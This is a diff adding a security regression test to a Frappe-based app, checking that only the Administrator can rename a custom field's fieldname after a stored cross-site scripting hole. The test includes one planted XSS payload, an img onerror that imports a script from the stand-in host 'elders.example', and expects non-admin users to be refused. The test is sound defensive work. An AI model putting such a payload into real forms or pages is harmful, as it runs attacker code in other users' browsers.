@@ -2362,6 +2362,40 @@ class TestRequestGuard(MeldcodeTestCase):
 			status, answer = self.call(user, door, "post")
 			self.assertEqual(status, expected, f"{user}: {answer}")
 
+	def test_only_the_bench_administrator_renames_a_custom_field(self):
+		"""Round 76: Frappe stores a custom field's new name with db_set, past every hook, and the
+		desk pastes it into data-fieldname="…": a System Manager's section break on Event, and on a
+		custom field the Administrator added to the dossier, ran a script in the case team's forms."""
+		door = "frappe.custom.doctype.custom_field.custom_field.rename_fieldname"
+		field = frappe.get_doc(
+			{
+				"doctype": "Custom Field",
+				"dt": "Note",
+				"fieldname": "meldcode_test_section",
+				"label": "Meldcode Test Section",
+				"fieldtype": "Section Break",
+			}
+		).insert()
+		frappe.db.commit()
+		try:
+			planted = "x\"><img src=x onerror=import('//elders.example/x.js')>"
+			for user in (SYSTEM_MANAGER, TEACHER_A):
+				status, answer = self.call(user, door, "post", custom_field=field.name, fieldname=planted)
+				self.assertEqual(status, 403, f"{user}: {answer}")
+			self.assertEqual(frappe.db.get_value("Custom Field", field.name, "fieldname"), field.fieldname)
+			status, answer = self.call(
+				"Administrator", door, "post", custom_field=field.name, fieldname="meldcode_test_part"
+			)
+			self.assertEqual(status, 200, answer)
+			self.assertEqual(
+				frappe.db.get_value("Custom Field", field.name, "fieldname"), "meldcode_test_part"
+			)
+		finally:
+			frappe.db.rollback()
+			frappe.delete_doc("Custom Field", field.name)
+			frappe.db.commit()
+			frappe.clear_cache(doctype="Note")
+
 	def test_no_password_is_pasted_into_the_trace_lookup(self):
 		"""Round 67: the guard's lookup of trace names carried a login's password, which every
 		running connection's list shows; a name among other arguments is still looked up."""
